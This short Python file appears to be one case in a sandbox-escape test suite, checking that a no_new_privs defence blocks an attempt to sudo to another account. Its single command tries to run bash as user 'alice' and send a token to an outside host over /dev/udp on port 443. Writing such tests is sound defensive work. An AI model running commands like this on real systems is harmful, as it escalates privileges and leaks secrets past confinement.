# SPDX-License-Identifier: GPL-2.0-or-later
# row: B3
# what: sudo to an account that is not held
# defences: no_new_privs
import subprocess

from attempt import TOKEN, WORLD4

subprocess.run(["sudo", "-n", "-u", "alice", "bash", "-c", f"echo {TOKEN.decode()} >/dev/udp/{WORLD4}/443"],
               check=False)
